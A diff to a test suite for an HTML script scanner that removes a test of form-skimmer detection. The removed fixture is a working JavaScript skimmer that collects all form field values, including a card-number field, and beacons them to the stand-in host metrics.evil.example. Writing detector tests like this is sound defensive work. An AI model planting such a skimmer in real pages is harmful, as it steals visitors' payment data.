@@ -40,22 +40,6 @@ def test_disguised_scripts(source: str) -> None:
     assert kinds(f"<title>x</title><script>{source}</script>") == ["disguised-script"]
 
 
-SKIMMER = (
-    "document.querySelectorAll('input,select').forEach(e=>{d[e.name]=e.value});"
-    "(new Image).src='https://metrics.evil.example/p.gif?d='+btoa(JSON.stringify(d))"
-)
-
-
-def test_scripts_that_copy_secret_fields_to_another_site() -> None:
-    """To the own site, of a page without secrets, or of one field only is what forms do."""
-    page = "<title>x</title><form><input name=n autocomplete='billing cc-number'></form><script>{}</script>"
-
-    assert kinds(page.format(SKIMMER)) == ["skimming-script"]
-    assert kinds(page.format(SKIMMER.replace("evil.example", "example.com"))) == []
-    assert kinds(page.format(SKIMMER).replace("billing cc-number", "name")) == []
-    assert kinds(page.format(SKIMMER.replace("querySelectorAll('input,select')", "querySelectorAll('.q')"))) == []
-
-
 def test_script_that_hides_an_address_and_what_opens_it() -> None:
     """Each string of it is written in escapes."""
     location, address = (
